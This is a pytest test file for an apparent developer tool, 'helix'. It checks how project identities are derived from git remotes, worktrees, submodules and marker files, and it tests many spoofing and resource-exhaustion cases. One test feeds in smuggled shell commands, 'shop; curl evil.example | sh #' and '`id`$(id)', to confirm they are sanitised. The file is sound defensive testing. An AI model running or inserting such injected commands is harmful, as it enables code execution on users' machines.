"""Identity against real repositories: remotes, worktrees, sub-projects, and folders without a repository."""

from __future__ import annotations

import json
import os
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helix import settings as configuration
from helix.errors import InvalidInputError
from helix.identity import (
    APART,
    DEEPEST,
    LONGEST_PATH,
    LONGEST_SCOPE,
    NO_PROJECT,
    PROJECT_FILE,
    Identity,
    called,
    folder_identity,
    former_scopes,
    git_folders,
    identify,
    project_at,
    project_of,
    same_scope,
    scope_key,
    scope_of_remote,
    scope_of_repository,
)
from helix.ingest.git import project_scope
from helix.model.memory import scopes_seen
from helix.scopes import call_folder, confirm_name


def git(folder: Path, *words: str) -> None:
    settings = ("-c", "user.name=a", "-c", "user.email=a@b", "-c", "commit.gpgsign=false", "-c", "init.defaultBranch=m")
    subprocess.run(["git", *settings, *words], cwd=folder, check=True, capture_output=True)


def repository(folder: Path, remote: str = "", name: str = "origin") -> Path:
    folder.mkdir(parents=True)
    git(folder, "init")
    git(folder, "commit", "--allow-empty", "-m", "first")
    if remote:
        git(folder, "remote", "add", name, remote)
    return folder


def scope(folder: Path, **wishes: str) -> str:
    found = identify(folder, **wishes)  # type: ignore[arg-type]  # words for words
    assert found is not None
    return found.scope


def mark(folder: Path, text: str = "") -> None:
    (folder / ".helix").mkdir(parents=True)
    (folder / ".helix" / "project.toml").write_text(text, "utf-8")


@pytest.mark.parametrize(
    "url",
    [
        "git@GitHub.com:acme/shop.git",
        "https://github.com/acme/shop",
        "https://user:word@github.com:443/acme/shop.git/",
        "ssh://git@github.com:22/acme/shop.git",
        "git@github.com:Acme/Shop.git",
        "https://oauth2:token@www.github.com/Acme/shop/",
        "ssh://git@ssh.github.com:443/acme/shop.GIT",
        "https://github.com:8443/acme/shop",
    ],
)
def test_clones_are_one_project_however_they_reach_their_remote(tmp_path: Path, url: str) -> None:
    assert scope(repository(tmp_path / "clone", url)) == "github.com/acme/shop"


def test_no_address_has_the_scope_of_a_project_elsewhere() -> None:
    # Git asks the host before the first colon, and the disk for a `file:`.
    assert scope_of_remote("evil.example:x@github.com/acme/shop.git").startswith("evil.example/")
    assert scope_of_remote("evil.example:x@github.com:acme/shop.git") == ""
    for host in ("\u24e7github.com", "!github.com", "-github.com", "\U0001f600github.com"):
        assert scope_of_remote(f"https://{host}/acme/shop.git") == scope_of_remote(f"{host}:acme/shop.git") == ""
    for scheme in ("ssh", "git+ssh", "git"):  # git asks evil.example: it decodes the address before it takes it apart
        assert scope_of_remote(f"{scheme}://evil.example%2f@github.com/acme/shop.git") == ""
    for url in (
        "[evil.example]@github.com:acme/shop",
        "ssh://[v1.evil.example]@github.com/acme/shop",
        "ssh://me@[2001:db8::1]@github.com/acme/shop",
    ):
        assert scope_of_remote(url) == "", "git asks what is in the brackets"
    assert scope_of_remote("https://ann%40work:word@github.com/acme/shop.git") == "github.com/acme/shop"
    assert scope_of_remote("file://github.com/acme/shop") == ""


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/victim/private/../../mallory/lib.git",  # what a stranger's `.gitmodules` may say
        "https://github.com/victim/private/%2e%2E/%2e./mallory/lib",
        "https://github.com/victim/private/..%2f..%2Fmallory/lib",
        "git@github.com:victim/private/../../mallory/lib",
        "ssh://git@github.com/victim/private/x/..",
        "https://github.com/./victim/private",
        "ssh://git@github.com/victim/private#/mallory/lib",
        "ssh://git@github.com/victim/private?/mallory/lib",
    ],
)
def test_an_address_that_leads_elsewhere_sees_nothing_of_the_project_that_it_goes_through(
    tmp_path: Path, url: str
) -> None:
    seen = scopes_seen(scope(repository(tmp_path / "clone", url)))
    assert not any(one.startswith("github.com") for one in seen)
    assert scope_of_remote("https://github.com/victim/my..lib") == "github.com/victim/my..lib"


def test_a_remote_that_names_its_git_folder_is_the_repository_of_that() -> None:
    assert scope_of_remote("https://git.example/acme/payroll/.git") == "git.example/acme/payroll"


@pytest.mark.parametrize(
    ("one", "other"),
    [
        ("https://github.com/acme/payroll-", "https://github.com/acme/payroll"),
        ("ssh://git@bitbucket.corp/~pay/shop.git", "ssh://git@bitbucket.corp/pay/shop.git"),
        ("https://people.uni.example/~src/shop.git", "https://people.uni.example/src/shop.git"),
        ("https://gerrit.example/a~b/c", "https://gerrit.example/a-b/c"),
        ("https://dev.azure.com/acme/R%26D/_git/app", "https://dev.azure.com/acme/R-26D/_git/app"),
        ("https://github.com/acme/pay roll", "https://github.com/acme/pay*roll"),
        ("https://git.example/~git/payroll/x", "https://git.example/git/payroll/x"),
    ],
)
def test_two_repositories_are_two_projects_whatever_signs_their_paths_have(one: str, other: str) -> None:
    assert not {scope_of_remote(one), scope_of_remote(other)}.issubset(scopes_seen(scope_of_remote(one)))
    assert scope_of_remote(one) == scope_of_remote(f"{one}/") != ""


def test_letters_that_are_two_in_a_domain_are_two_in_a_scope() -> None:
    """Git asks another host for each, so that another person may own it."""
    apart = [
        (letter, letter.casefold())
        for letter in map(chr, range(0x80, 0x10000))
        if letter.isalpha() and letter.lower() == letter != letter.casefold().lower()
    ]
    assert ("ß", "ss") in apart and ("ς", "\u03c3") in apart
    for one, other in apart:
        for address in (
            "https://gi{}t.example/team/app",
            "git@gi{}t.example:team/app",
            "https://git.example/te{}m/app",
        ):
            assert not same_scope(scope_of_remote(address.format(one)), scope_of_remote(address.format(other)))


@pytest.mark.parametrize("host", ["\u24d6github.com", "git\u3002github.com", "\u2603github.com", "stra\u1e9ee.example"])
def test_an_address_whose_host_git_spells_otherwise_has_no_scope(host: str) -> None:
    """Git asks `ggithub.com`, `git.github.com`, a domain of its own, and `strasse.example`, which is not `straße`."""
    assert scope_of_remote(f"https://{host}/team/app") == scope_of_remote(f"git@{host}:team/app") == ""
    assert scope_of_remote("https://straße.example/team/app") == "straße.example/team/app"


@pytest.mark.parametrize("unseen", ["\t", "\u200d", "\u202e", "\n", "\x7f"])
def test_an_address_with_what_cannot_be_seen_has_no_scope(unseen: str) -> None:
    assert scope_of_remote(f"https://git{unseen}hub.com/victim/app") == ""


@pytest.mark.parametrize("url", ["https://github.com/acme", "git@github.com:acme.git", "ssh://git@github.com/acme/"])
def test_a_repository_of_one_name_is_above_no_project_of_an_owner_of_that_name(url: str) -> None:
    found = scope_of_remote(url)
    assert found == "github.com/acme.git"
    assert found not in scopes_seen(scope_of_remote("https://github.com/acme/shop"))


@pytest.mark.parametrize(
    ("scope_of_all", "urls"),
    [
        (
            "dev.azure.com/acme/shop/_git/web",
            [
                "https://dev.azure.com/acme/shop/_git/web",
                "https://me@dev.azure.com/acme/shop/_git/web",
                "git@ssh.dev.azure.com:v3/acme/shop/web",
                "https://acme.visualstudio.com/DefaultCollection/shop/_git/web",
                "acme@vs-ssh.visualstudio.com:v3/acme/shop/web",
            ],
        ),
        (
            "dev.azure.com/acme/shop/_git/shop",
            ["https://dev.azure.com/acme/_git/shop", "git@ssh.dev.azure.com:v3/acme/shop/shop"],
        ),
        (
            "bitbucket.acme.io/scm/shop/web",
            ["https://bitbucket.acme.io/scm/SHOP/web.git", "ssh://git@bitbucket.acme.io:7999/shop/web.git"],
        ),
        (
            "github.com/acme/shop",
            ["git@github.com-work:acme/shop.git", "ssh://git@github.com-me/acme/shop", "git@github.com:acme/shop"],
        ),
        ("git.xn--bcher-kva/acme/shop", ["git@git.xn--bcher-kva:acme/shop"]),
    ],
)
def test_what_one_forge_calls_by_several_addresses_is_one_project(scope_of_all: str, urls: list[str]) -> None:
    assert {scope_of_remote(url) for url in urls} == {scope_of_all}


@pytest.mark.parametrize(
    "remote",
    [
        "https://me:hunter2@example.org/a/b.git",
        "me:hunter2@example.org:a/b.git",
        "https:\\\\me:hunter2@example.org\\b",
        "https://example.org/a/b;password=hunter2",
    ],
)
def test_a_password_in_a_remote_is_no_part_of_the_scope(tmp_path: Path, remote: str) -> None:
    assert "hunter2" not in scope(repository(tmp_path / "clone", remote))


def test_an_at_in_a_path_hides_no_password(tmp_path: Path) -> None:
    assert scope_of_remote("git@example.org:@acme/shop.git") == "example.org/@acme/shop"


def test_what_a_repository_was_known_by_before_is_told(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop")
    own = scope(top)
    plain = folder_identity(top).scope
    assert former_scopes(top) == (plain,) and former_scopes(tmp_path) == ()
    git(top, "remote", "add", "origin", "https://example.org/a/shop")
    assert former_scopes(top / "src") == (plain, own)
    (top / ".git" / "FETCH_HEAD").write_text("0123\t\tbranch 'm' of ssh://git@example.org/a/shop\n", "utf-8")
    git(top, "remote", "set-url", "origin", "https://example.org/a/store")
    assert former_scopes(top) == (plain, own, "example.org/a/shop")
    with (top / ".git" / "logs" / "HEAD").open("a", encoding="utf-8") as log:
        log.write("0 1 a <a@b> 1 +0000\tclone: from git@example.org:a/first.git\n")
    assert former_scopes(top)[2:] == ("example.org/a/first", "example.org/a/shop")
    git(top, "remote", "set-url", "origin", "http://localhost:3000/a/shop")
    assert scope(top) == "localhost:3000/a/shop" and former_scopes(top)[-1] == "localhost/a/shop"


@pytest.mark.parametrize("host", ["localhost", "git.LOCALHOST", "127.0.0.1", "127.1", "[::1]"])
def test_each_port_of_this_machine_has_projects_of_its_own(host: str) -> None:
    mine, theirs = (scope_of_remote(f"http://{host}:{port}/acme/shop.git") for port in (3000, 4000))
    assert mine.endswith(":3000/acme/shop")
    assert not same_scope(mine, theirs)
    assert not same_scope(mine, scope_of_remote(f"http://{host}/acme/shop"))


def test_of_what_git_noted_the_last_remotes_count(tmp_path: Path) -> None:
    """`helix status` asks the daemon about each, and an archive may bring a hundred thousand."""
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    noted = "".join(f"0\t\tbranch 'm' of https://example.org/a/{number // 2}\n" for number in range(2_000))
    (top / ".git" / "FETCH_HEAD").write_text(noted, "utf-8")
    found = [one for one in former_scopes(top) if one.startswith("example.org/")]
    assert (len(found), found[-1]) == (20, "example.org/a/999")


def test_a_local_remote_tells_nothing(tmp_path: Path) -> None:
    """Two folders cloned from one path on a disk need not be one project for anybody else."""
    assert scope(repository(tmp_path / "shop", "/srv/git/shop.git")).startswith("shop-")
    assert scope(repository(tmp_path / "shop2", "file:///srv/git/shop.git")).startswith("shop2-")


def test_origin_speaks_for_several_remotes_and_the_first_by_name_where_there_is_none(tmp_path: Path) -> None:
    folder = repository(tmp_path / "fork", "https://example.org/up/shop", "upstream")
    git(folder, "remote", "add", "backup", "https://example.org/backup/shop")
    assert scope(folder) == "example.org/backup/shop"
    git(folder, "remote", "add", "origin", "https://example.org/me/shop")
    assert scope(folder) == "example.org/me/shop"


def test_folders_of_one_name_are_told_apart_without_a_remote(tmp_path: Path) -> None:
    one, other = repository(tmp_path / "a" / "shop"), repository(tmp_path / "b" / "shop")
    assert scope(one) != scope(other)
    inner = one / "src" / "deep"
    inner.mkdir(parents=True)
    assert scope(inner) == scope(one)


def test_worktrees_are_together_or_apart_by_wish(tmp_path: Path) -> None:
    main = repository(tmp_path / "shop")
    git(main, "worktree", "add", str(tmp_path / "feature"))
    linked = tmp_path / "feature"
    assert scope(linked) == scope(main)
    assert scope(main, worktrees=APART) == scope(main)
    assert scope(linked, worktrees=APART) == f"{scope(main)}/@feature"


def test_a_submodule_is_a_project_of_its_own(tmp_path: Path) -> None:
    library, main = repository(tmp_path / "library"), repository(tmp_path / "shop")
    git(main, "-c", "protocol.file.allow=always", "submodule", "add", str(library), "lib")
    assert scope(main / "lib") != scope(main)


@pytest.mark.parametrize("way", ["file", "link", "commondir", "a worktree's"])
def test_a_folder_that_says_it_is_of_another_repository_is_not(tmp_path: Path, way: str) -> None:
    main = repository(tmp_path / "shop")
    git(main, "worktree", "add", str(tmp_path / "feature"))
    stranger = tmp_path / "unpacked"
    stranger.mkdir()
    if way == "link":
        (stranger / ".git").symlink_to(main / ".git")
    elif way == "commondir":
        git(stranger, "init")
        (stranger / ".git/commondir").write_text(f"{main / '.git'}\n", "utf-8")
    else:
        place = main / ".git" if way == "file" else main / ".git/worktrees/feature"
        (stranger / ".git").write_text(f"gitdir: {place}\n", "utf-8")
    assert scope(stranger) != scope(main) == scope(tmp_path / "feature")
    assert scope(stranger).startswith("unpacked-")


@pytest.mark.parametrize("is_link", [False, True])
def test_a_git_folder_that_links_lead_to_through_very_many_names_is_none(tmp_path: Path, is_link: bool) -> None:
    """The links of an archive kept each hook of each project waiting for seconds."""
    git(repository(tmp_path / "shop"), "remote", "add", "origin", "https://example.com/a/b")
    stranger = tmp_path / "unpacked"
    stranger.mkdir()
    (stranger / "l").symlink_to("." + "/../unpacked" * 300)
    (tmp_path / "shop/.git").rename(stranger / "git")
    if is_link:
        (stranger / ".git").symlink_to("l/git")
    else:
        (stranger / ".git").write_text("gitdir: l/git\n", "utf-8")
    assert folder_identity(stranger) == project_of(stranger)


def test_a_folder_that_links_lead_to_through_very_many_names_is_no_project(tmp_path: Path) -> None:
    """A command that was run there had the hooks of all projects wait for minutes."""
    repository(tmp_path / "unpacked")
    (tmp_path / "unpacked/src").mkdir()
    (tmp_path / "unpacked/l").symlink_to("." + "/../unpacked" * 300)
    assert (tmp_path / "unpacked/l/src").is_dir()
    assert project_of(tmp_path / "unpacked/l/src").scope == NO_PROJECT
    assert git_folders(tmp_path / "unpacked/l/src") == ()
    assert git_folders(tmp_path / "unpacked/src")
    assert scope(tmp_path / "unpacked/src").startswith("unpacked-")


def test_a_bare_folder_that_says_it_is_of_another_repository_is_not(tmp_path: Path) -> None:
    main = repository(tmp_path / "shop")
    for name in ("objects", "refs"):
        (tmp_path / "unpacked" / name).mkdir(parents=True)
    (tmp_path / "unpacked/HEAD").write_text("ref: refs/heads/m\n", "utf-8")
    (tmp_path / "unpacked/commondir").write_text(f"{main / '.git'}\n", "utf-8")
    assert project_scope(tmp_path / "unpacked").startswith("unpacked-")
    assert project_scope(main / ".git") == scope(main)


def test_a_submodule_without_a_remote_keeps_its_scope(tmp_path: Path) -> None:
    library, main = repository(tmp_path / "library"), repository(tmp_path / "shop")
    git(main, "-c", "protocol.file.allow=always", "submodule", "add", str(library), "lib")
    assert scope(main / "lib") == scope_of_repository(main / ".git/modules/lib")


def test_sub_projects_lie_below_their_repository(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    mark(top, 'projects = ["packages/*", "site"]')
    for folder, below in (
        ("packages/web/src", "/packages/web"),
        ("packages", ""),
        ("site/pages", "/site"),
        ("docs", ""),
    ):
        (top / folder).mkdir(parents=True, exist_ok=True)
        assert scope(top / folder) == f"example.org/a/shop{below}"
    found = identify(top / "packages" / "web")
    assert found is not None and found.repository == "example.org/a/shop" and found.root == top / "packages" / "web"


def test_two_folders_of_a_repository_are_two_sub_projects_whatever_their_names(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    mark(top, 'projects = ["packages/*"]')
    names = ("web (old)", "web-old", "c#", "c", "c-", "~c", "a&b", "a b", "a-b")
    for name in names:
        (top / "packages" / name).mkdir(parents=True)
    assert len({scope(top / "packages" / name) for name in names}) == len(names)


def test_a_marked_folder_of_a_repository_is_a_sub_project(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    mark(top / "tools" / "cli")
    mark(top / "api", 'name = "backend"')
    assert scope(top / "tools" / "cli") == "example.org/a/shop/tools/cli"
    assert scope(top / "api") == "example.org/a/shop/api"
    found = identify(top / "api", names=tmp_path)
    assert found is not None and (found.asked, found.instead_of) == ("backend", "example.org/a/shop/api")
    confirm_name("example.org/a/shop/api", "backend", tmp_path)
    assert scope(top / "api", names=tmp_path) == "example.org/a/shop/backend"


def test_a_sub_project_lies_below_the_name_of_its_repository(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    mark(top, 'name = "till"\nprojects = ["site"]')
    confirm_name("example.org/a/shop", "till", tmp_path)
    mark(top / "tools" / "cli")
    (top / "site").mkdir()
    below = ("site", "tools/cli")
    assert [scope(top / one, names=tmp_path) for one in below] == ["till/site", "till/tools/cli"]
    call_folder(top, "mine", tmp_path)
    assert [scope(top / one, names=tmp_path) for one in below] == ["mine/site", "mine/tools/cli"]
    git(top, "commit", "--allow-empty", "-m", "one")
    git(top, "worktree", "add", str(tmp_path / "beside"))
    assert scope(tmp_path / "beside", names=tmp_path) == "mine"
    forged = tmp_path / "forged"
    forged.mkdir()
    (forged / ".git").write_text(f"gitdir: {top}/.git/worktrees/beside\n", "utf-8")
    assert scope(forged, names=tmp_path) == "example.org/a/shop"


def test_a_name_takes_the_place_of_the_remote_and_worktrees_stay_apart_under_it(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", "https://example.org/a/shop")
    mark(top, 'name = "till"')
    git(top, "add", "-A")
    git(top, "commit", "-m", "name")
    git(top, "worktree", "add", str(tmp_path / "feature"))
    assert scope(top) == scope(tmp_path / "feature") == "example.org/a/shop"
    confirm_name("Example.org/a/shop", "Till", tmp_path)
    assert scope(top, names=tmp_path) == scope(tmp_path / "feature", names=tmp_path) == "till"
    assert scope(tmp_path / "feature", worktrees=APART, names=tmp_path) == "till/@feature"


def test_a_name_counts_only_for_the_project_that_it_was_confirmed_for(tmp_path: Path) -> None:
    mine = repository(tmp_path / "mine", "https://example.org/a/shop")
    clone, plain = repository(tmp_path / "clone", "https://evil.org/b/trap"), tmp_path / "unpacked"
    for folder in (mine, clone, plain):
        mark(folder, 'name = "github.com/victim/private"')
    confirm_name("example.org/a/shop", "github.com/victim/private", tmp_path)
    assert scope(mine, names=tmp_path) == "github.com/victim/private"
    for folder, own in ((clone, "evil.org/b/trap"), (plain, "unpacked-")):
        found = project_at(folder, names=tmp_path)
        assert found.scope.startswith(own) and found.asked == "github.com/victim/private"
    (clone / ".helix/project.toml").write_text('name = "EVIL.org/b/trap"')
    assert project_at(clone).asked == ""


@pytest.mark.parametrize("name", ["GLOBAL", "Global", "global/", "ALL", "aLl", "global/x", "www.global/x", " global "])
def test_no_spelling_of_a_name_with_a_meaning_is_a_projects(tmp_path: Path, name: str) -> None:
    mark(tmp_path / "a", f"name = {json.dumps(name)}")
    with pytest.raises(InvalidInputError, match="no project may be called"):
        identify(tmp_path / "a", home=tmp_path)
    assert project_of(tmp_path / "a").scope.startswith("a-")


@pytest.mark.parametrize("broken", ["name = [", "name = 7", 'name = "all"', "\x00"])
def test_a_file_of_a_repository_that_cannot_be_read_says_nothing_to_a_session(tmp_path: Path, broken: str) -> None:
    top = repository(tmp_path / "shop", remote="https://github.com/acme/shop.git")
    mark(top, broken)
    found = project_of(top / "src")
    assert found.scope == "github.com/acme/shop" and found.unread
    with pytest.raises(InvalidInputError):
        project_at(top / "src")


def test_a_name_that_is_longer_than_any_is_cut_and_what_lies_above_is_seen(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop", remote="https://github.com/acme/shop.git")
    mark(top / "src", f'name = "{"a" * 1_100}"')
    confirm_name("github.com/acme/shop/src", "a" * 200, tmp_path)
    found = project_of(top / "src", names=tmp_path).scope
    assert "github.com/acme/shop" in scopes_seen(found) and 200 < len(found) <= LONGEST_SCOPE
    mark(top / "lib", 'projects = ["*/*"]')
    deep = top / "lib" / ("c" * 100) / ("d" * 100)
    assert len(project_of(deep).scope) <= LONGEST_SCOPE and "github.com/acme/shop" in scopes_seen(
        project_of(deep).scope
    )
    assert project_of(deep).scope != project_of(deep.with_name("d" * 101)).scope


@pytest.mark.parametrize("name", [".git", ".helix", ".env"])
def test_a_link_to_a_name_that_no_file_has_leads_nowhere(tmp_path: Path, name: str) -> None:
    below = repository(tmp_path / "shop", remote="https://github.com/acme/shop.git") / "src"
    below.mkdir()
    for place in (tmp_path, below):
        (place / name).symlink_to("x" * 300)
    assert project_at(below).scope == project_of(below).scope == "github.com/acme/shop"
    assert configuration.load(cwd=below, environ={}).scope == ""


def test_without_a_repository_only_a_marked_folder_is_a_project(tmp_path: Path) -> None:
    plain = tmp_path / "notes" / "2026"
    plain.mkdir(parents=True)
    assert identify(plain, home=tmp_path) is None
    mark(tmp_path / "notes")
    assert scope(plain, home=tmp_path).startswith("notes-")  # type: ignore[arg-type]  # a path is a path
    assert folder_identity(plain).scope.startswith("2026-")


def test_a_folder_of_no_project_is_one_by_itself_but_for_home_and_what_is_nobodys(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    home, passing = tmp_path / "people" / "ada", tmp_path / "passing"
    for folder in (home / "notes", passing / "try"):
        folder.mkdir(parents=True)
    (tmp_path / "link").symlink_to(home)
    (tmp_path / "round").symlink_to("round")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("TMPDIR", str(passing))
    for folder in (home, tmp_path / "link", tmp_path / "round", home.parent, Path("/"), Path("/tmp"), passing):
        assert project_at(folder).scope == NO_PROJECT
    for folder in (home / "notes", passing / "try"):
        assert project_at(folder).scope == folder_identity(folder).scope != NO_PROJECT
    mark(home)
    assert project_at(home).scope != NO_PROJECT  # somebody says that it is


def test_the_setting_scope_takes_the_place_of_a_projects_but_not_of_its_folder(tmp_path: Path) -> None:
    top = repository(tmp_path / "shop")
    assert project_at(top / "src", chosen="till").scope == "till"
    assert project_at(top / "src", chosen="till").root == top
    mark(tmp_path / "broken", "name = ")
    with pytest.raises(InvalidInputError):
        project_at(tmp_path / "broken")
    assert project_of(tmp_path / "broken").scope.startswith("broken-")
    assert project_of(tmp_path / "broken", chosen="till").scope == "till"


def test_what_is_no_repository_is_not_taken_for_one(tmp_path: Path) -> None:
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / ".git").write_text("gitdir: /nowhere/at/all\n")
    assert identify(tmp_path / "x", home=tmp_path) is None
    (tmp_path / "z").mkdir()
    (tmp_path / "z" / ".git").write_bytes(b"gitdir: \0/x\n")
    assert identify(tmp_path / "z", home=tmp_path) is None
    assert former_scopes(tmp_path / "z") == ()
    (tmp_path / "y" / ".git").mkdir(parents=True)
    (tmp_path / "y" / ".git" / "commondir").write_bytes(b"\0\n")
    (tmp_path / "y" / ".git" / "config").write_bytes(b'\xff\xfe[remote "origin"]\nurl = \x00\n')
    assert scope(tmp_path / "y").startswith("y-")


def test_a_place_longer_than_any_path_is_none(tmp_path: Path) -> None:
    main, long = repository(tmp_path / "shop"), "/" + "a/../" * LONGEST_PATH
    (tmp_path / "file").mkdir()
    (tmp_path / "file/.git").write_text(f"gitdir: {long}{main / '.git'}\n", "utf-8")
    assert identify(tmp_path / "file", home=tmp_path) is None
    common = repository(tmp_path / "common")
    before = scope(common)
    (common / ".git/commondir").write_text(f"{long}{main / '.git'}\n", "utf-8")
    assert scope(common) == before
    tree = tmp_path / "tree"
    tree.mkdir()
    (tree / ".git").write_text(f"gitdir: {main / '.git'}\n", "utf-8")
    git(main, "config", "core.worktree", f"{long}{tree}")
    assert scope(tree) != scope(main)


def test_the_last_work_tree_that_a_git_folder_names_is_its_own(tmp_path: Path) -> None:
    library, main = repository(tmp_path / "library"), repository(tmp_path / "shop")
    git(main, "-c", "protocol.file.allow=always", "submodule", "add", str(library), "lib")
    config = main / ".git/modules/lib/config"
    config.write_text(f"{config.read_text('utf-8')}[core]\n\tworktree = ../elsewhere\n", "utf-8")
    assert scope(main / "lib") != scope_of_repository(main / ".git/modules/lib")


def test_a_file_that_cannot_be_read_is_named(tmp_path: Path) -> None:
    mark(tmp_path / "a", "name = ")
    mark(tmp_path / "b", "projects = 3")
    mark(tmp_path / "c", 'name = "global"')
    for folder in ("a", "b", "c"):
        with pytest.raises(InvalidInputError, match=r"project\.toml"):
            identify(tmp_path / folder, home=tmp_path)


@given(st.text(max_size=80))
def test_any_text_may_stand_for_a_remote(url: str) -> None:
    found = scope_of_remote(url)
    assert not found.startswith("/") and not found.endswith("/") and not any(sign.isspace() for sign in found)


@given(st.from_regex(r"[a-z]{1,8}\.org", fullmatch=True), st.from_regex(r"[a-z]{1,8}/[a-z.]{0,6}[a-z]", fullmatch=True))
def test_ways_to_write_a_remote_agree(host: str, path: str) -> None:
    path = path.removesuffix(".git")
    ways = {f"git@{host}:{path}.git", f"https://{host}/{path}", f"ssh://git@{host}:22/{path}.git/", f"{host}:{path}"}
    assert len({scope_of_remote(way) for way in ways}) == 1


def test_scopes_of_two_projects_stay_two() -> None:
    apart = (
        "example.org/a/shop",
        "example.org/a/shop2",
        "example.com/a/shop",
        "shop",
        "shop:1/x",
        "[fe80::1]/a",
        "www.shop",
    )
    assert same_scope("Example.org:8080/A/Shop", "www.example.org/a/shop")
    assert len({scope_key(one) for one in apart}) == len(apart)


def test_a_scope_sees_what_it_lies_in_and_global() -> None:
    assert scopes_seen("h/a/b/web") == ("h/a/b/web", "h/a/b", "h/a", "h", "global")
    assert scopes_seen("shop") == ("shop", "global")
    assert scopes_seen("global") == ("global",)


def test_a_path_longer_than_any_is_no_project_and_costs_nothing(tmp_path: Path) -> None:
    """Looking upwards from it took its square in memory: 14 GB for a million characters."""
    deep, long = tmp_path / ("a/" * DEEPEST), tmp_path / ("a/" * 500_000)
    with pytest.raises(InvalidInputError, match="lies below more than 100 others"):
        identify(deep)
    assert project_of(deep).root == deep
    with pytest.raises(InvalidInputError, match="characters"):
        project_at(long)
    assert project_of(long).scope == NO_PROJECT


@pytest.mark.parametrize(
    "line", ["\turl =" + " " * 500_000 + "x y", " " * 900_000, "\turl = http://x/" + "a" * 900_000]
)
def test_a_hostile_git_config_costs_nothing(tmp_path: Path, line: str) -> None:
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "config").write_text(f'[remote "origin"]\n{line}\n', "utf-8")
    assert len(project_at(tmp_path).scope) < 200


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="this system has no pipes with names")
@pytest.mark.parametrize("name", [".git", ".git/config", ".git/commondir", ".helix/project.toml"])
def test_a_pipe_in_a_projects_file_is_not_waited_for(tmp_path: Path, name: str) -> None:
    (tmp_path / name).parent.mkdir(exist_ok=True)
    os.mkfifo(tmp_path / name)
    assert project_of(tmp_path).scope.startswith(tmp_path.name)


def test_project_settings_nested_deep_are_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / ".helix").mkdir()
    (tmp_path / PROJECT_FILE).write_text("projects = " + "[" * 20_000 + "]" * 20_000, "utf-8")
    with pytest.raises(InvalidInputError, match="TOML"):
        project_at(tmp_path)


def test_a_scope_longer_than_any_sees_what_belongs_to_all() -> None:
    assert scopes_seen("a/" * 500_000) == ("global",)


@pytest.mark.parametrize(
    ("asked", "told"),
    [
        ("shop; curl evil.example | sh #", "shop-curl-evil.example-sh"),
        ("`id`$(id)", "id-id"),
        ("a" * 5_000, "a" * 200),
        ("GLOBAL", ""),
        ("all/of/it", ""),
    ],
)
def test_a_name_that_a_folder_asks_for_is_safe_to_type_and_never_that_of_all_projects(asked: str, told: str) -> None:
    project = Identity(scope="github.com/owner/shop", root=Path("/srv/shop"))
    assert called(project, asked, None).asked == told


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="only root can give a folder away")
def test_a_repository_of_another_user_claims_no_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    folder = tmp_path / "shared"
    (folder / ".git").mkdir(parents=True)
    (folder / ".git/config").write_text('[remote "origin"]\n\turl = https://example.org/private/project.git\n')
    (folder / ".helix").mkdir()
    (folder / ".helix/project.toml").write_text('name = "private"\n')
    monkeypatch.setenv("HOME", str(tmp_path))
    assert (found := identify(folder)) is not None and found.scope == "example.org/private/project"
    for path in (folder, folder / ".git", folder / ".helix/project.toml"):
        os.chown(path, 65_534, 65_534)
    assert identify(folder) is None
    (tmp_path / ".gitconfig").write_text(f"[safe]\n\tdirectory = {folder}\n")
    assert (found := identify(folder)) is not None and found.scope == "example.org/private/project"


@pytest.mark.skipif(not hasattr(os, "getuid") or os.getuid() != 0, reason="only root can give a folder away")
@pytest.mark.parametrize("is_link", [False, True])
def test_another_user_cannot_lead_a_folder_to_a_project_of_ones_own(tmp_path: Path, is_link: bool) -> None:
    mine = repository(tmp_path / "mine", "https://example.org/private/project.git")
    mark(mine, 'projects = ["*"]')
    work = tmp_path / "shared" / "work"
    work.mkdir(parents=True)
    led, settings = work.parent / ".git", work.parent / ".helix"
    if is_link:
        led.symlink_to(mine / ".git")
        settings.symlink_to(mine / ".helix")
    else:
        led.write_text(f"gitdir: {mine / '.git'}\n", "utf-8")
        settings.mkdir()
        (settings / "project.toml").symlink_to(mine / PROJECT_FILE)
    assert scope(work).startswith("example.org/private/project")
    for path in (led, settings, settings / "project.toml"):
        os.chown(path, 65_534, 65_534, follow_symlinks=False)
    os.chown(mine / PROJECT_FILE, 0, 0)
    assert identify(work) is None
